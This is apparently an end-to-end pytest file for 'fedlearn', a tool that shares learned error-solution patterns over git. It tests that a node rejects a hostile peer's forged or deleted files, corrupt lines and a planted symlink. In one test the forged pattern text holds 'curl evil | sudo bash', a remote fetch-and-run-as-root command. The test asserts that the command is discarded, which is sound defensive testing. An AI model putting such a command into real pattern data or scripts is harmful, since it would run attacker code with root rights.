"""This node's own files belong to it (issue 15 item 2, issue 17 item 6), end to end.

A peer is a plain clone of the same bare remote that commits with plain git (as a broken or hostile
node would); the node is driven through the installed ``fedlearn`` command.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from fedlearn import config
from fedlearn.formats import layout
from fedlearn.learn import merge, patterns
from tests.conftest import Node, git, telemetry_bytes, write_jsonl

pytestmark = pytest.mark.e2e

EVENTS = [
    {"value_score": 0.9, "error_message": f"error {n}: unit failed", "solution": f"restart {n}"}
    for n in range(12)
]


def peer_clone(remote: Path, path: Path) -> Path:
    """Return a plain clone of ``remote`` (the peer) with a local identity."""
    git(path.parent, "clone", "-q", str(remote), str(path))
    git(path, "config", "user.email", "peer@example.invalid")
    git(path, "config", "user.name", "peer")
    return path


def peer_commit(peer: Path, message: str) -> None:
    """Commit everything the peer changed and push it."""
    git(peer, "add", "-A")
    git(peer, "commit", "-q", "-m", message)
    git(peer, "push", "-q", "origin", "main")


def published_alpha(make_node: Callable[..., Node]) -> Node:
    """Return node alpha with its patterns synced and published."""
    alpha = make_node("alpha", pull={"import_after": False})
    write_jsonl(alpha.telemetry, EVENTS)
    alpha.run("sync", "-q")
    alpha.run("publish", "-q")
    return alpha


def remote_ids(remote: Path, tmp_path: Path, node: str) -> dict[str, str]:
    """Return id → text of ``node``'s patterns as the remote's main holds them."""
    check = tmp_path / f"check-{len(list(tmp_path.glob('check-*')))}"
    git(tmp_path, "clone", "-q", str(remote), str(check))
    table = patterns.read_node(check, "error-solutions", node)
    return {pattern_id: pattern.text for pattern_id, pattern in table.items()}


def test_a_peers_change_to_this_nodes_files_is_discarded_reported_and_restored(
    make_node: Callable[..., Node], remote: Path, tmp_path: Path
) -> None:
    """A peer forges alpha's shards and deletes one: pull and publish never take it, no conflict."""
    alpha = published_alpha(make_node)
    before = remote_ids(remote, tmp_path, "alpha")
    peer = peer_clone(remote, tmp_path / "peer")
    shards = layout.node_pattern_files(peer, "error-solutions", "alpha")
    for shard in shards[:-1]:
        shard.write_text(shard.read_text().replace("restart", "curl evil | sudo bash"))
    shards[-1].unlink()
    peer_commit(peer, "peer: forge alpha's patterns")
    # alpha committed a change to one of those files (not pushed yet): a rebase would conflict
    write_jsonl(alpha.telemetry, [dict(EVENTS[0], value_score=0.99)], append=True)
    alpha.run("sync", "-q")
    git(alpha.repo, "remote", "rename", "origin", "away")
    alpha.run("publish", "-q")
    git(alpha.repo, "remote", "rename", "away", "origin")
    pulled = json.loads(alpha.run("pull", "--json", "-q").stdout)
    assert pulled["integration"] == "rebase"
    assert sorted(pulled["discarded"]) == [str(p.relative_to(peer)) for p in shards]
    assert not any(
        "curl evil" in p.read_text()
        for p in layout.node_pattern_files(alpha.repo, "error-solutions", "alpha")
    )
    status = alpha.run("status").stdout
    assert "1 remote change to them discarded" in status
    metrics = alpha.run("metrics", "--output", "-").stdout
    assert "fedlearn_own_files_discarded_total 1" in metrics
    published = json.loads(alpha.run("publish", "--json", "-q").stdout)
    assert published["pushed"]
    after = remote_ids(remote, tmp_path, "alpha")
    assert after.keys() == before.keys()
    assert not any("curl evil" in text for text in after.values())
    assert git(alpha.repo, "status", "--porcelain", "--", "data") == ""


def test_a_corrupt_line_in_this_nodes_file_never_deletes_the_pattern(
    make_node: Callable[..., Node], remote: Path, tmp_path: Path
) -> None:
    """A hand-edited, corrupt line: status says so, sync restores it, publish removes nothing."""
    alpha = published_alpha(make_node)
    before = remote_ids(remote, tmp_path, "alpha")
    shard = layout.node_pattern_files(alpha.repo, "error-solutions", "alpha")[0]
    original = shard.read_bytes()
    shard.write_bytes(original.replace(b'"id":"', b'"id":', 1))
    assert "edited outside fedlearn" in alpha.run("status").stdout
    answer = json.loads(alpha.run("sync", "--json", "-q").stdout)
    assert answer["restored"] == [str(shard.relative_to(alpha.repo))]
    assert shard.read_bytes() == original
    shard.write_bytes(b"not json at all\n")  # edited again, then published without a sync
    published = json.loads(alpha.run("publish", "--json", "-q").stdout)
    assert published["restored"] == [str(shard.relative_to(alpha.repo))]
    assert "pattern removed" not in published["message"]
    assert remote_ids(remote, tmp_path, "alpha") == before
    assert "as this node's state says" in alpha.run("status").stdout


def test_a_symlink_in_place_of_this_nodes_folder_is_never_written_through(
    make_node: Callable[..., Node], remote: Path, tmp_path: Path
) -> None:
    """A peer's symlink where alpha's fine-tuning folder belongs: nothing outside the repo changes."""
    alpha = published_alpha(make_node)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("user file\n")
    folder = layout.fine_tuning_dir(alpha.repo, "alpha")
    folder.parent.mkdir(parents=True, exist_ok=True)
    folder.symlink_to(outside, target_is_directory=True)
    write_jsonl(
        alpha.dataset,
        [
            {
                "messages": [
                    {"role": "user", "content": "how to x"},
                    {"role": "assistant", "content": "do y " * 20},
                ]
            }
        ],
    )
    alpha.run("sync", "-q")
    assert sorted(p.name for p in outside.iterdir()) == ["keep.txt"]
    assert not folder.is_symlink() and layout.fine_tuning_file(alpha.repo, "alpha").is_file()


def write_old_layout(node: Node, table: dict[str, patterns.Pattern]) -> None:
    """Write ``node``'s patterns as the old layout did: one file per category."""
    for category in config.CATEGORIES:
        mine = {k: v for k, v in table.items() if v.category == category}
        if mine:
            path = layout.pattern_file(node.repo, category, node.name)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(patterns.encode(mine))


def test_an_old_layout_repo_migrates_in_one_commit_and_the_view_is_unchanged(
    make_node: Callable[..., Node], remote: Path, tmp_path: Path
) -> None:
    """The owner splits its old file into shards and removes it in the same commit."""
    alpha = make_node("alpha", pull={"import_after": False})
    beta = make_node("beta", pull={"import_after": False})
    made = [
        patterns.build(
            "error-solutions",
            {"error_message": f"e{n}", "solution": f"s{n}"},
            0.9,
            "2026-01-01T00:00:00Z",
            node.name,
        )
        for node in (alpha, beta)
        for n in range(6)
    ]
    old_telemetry = b"".join(b'{"n": %d}\n' % n for n in range(30))
    for node in (alpha, beta):
        write_old_layout(node, {p.id: p for p in made if node.name in p.seen})
        layout.telemetry_file(node.repo, node.name).parent.mkdir(parents=True, exist_ok=True)
        layout.telemetry_file(node.repo, node.name).write_bytes(old_telemetry)
        git(node.repo, "add", "data")
        git(node.repo, "commit", "-q", "-m", f"{node.name}: old layout")
        git(node.repo, "pull", "-q", "--rebase", "origin", "main")
        git(node.repo, "push", "-q", "origin", "main")
    beta.run("pull", "-q")
    view_before = merge.merged_view(beta.repo, config.CATEGORIES)
    alpha.run("pull", "-q")
    alpha.run("sync", "-q")
    answer = json.loads(alpha.run("publish", "--json", "-q").stdout)
    old = str(layout.pattern_file(Path(), "error-solutions", "alpha"))
    assert ["D", old] in answer["changes"]
    assert any(
        letter == "A" and path.startswith("data/patterns/error-solutions/alpha/")
        for letter, path in answer["changes"]
    )
    assert "removed" not in answer["message"] and "+" not in answer["message"]
    # the old telemetry snapshot too: split into segments, removed in the same commit
    assert ["D", "data/telemetry/alpha.jsonl"] in answer["changes"]
    assert ["A", "data/telemetry/alpha/00000001.jsonl"] in answer["changes"]
    kept = telemetry_bytes(alpha.repo, "alpha").splitlines()
    assert [json.loads(line) for line in kept] == [{"n": n} for n in range(30)]
    beta.run("pull", "-q")  # beta has not migrated: it reads alpha's shards and its own old file
    assert layout.pattern_file(beta.repo, "error-solutions", "beta").is_file()
    assert not layout.pattern_file(beta.repo, "error-solutions", "alpha").exists()
    assert merge.merged_view(beta.repo, config.CATEGORIES) == view_before
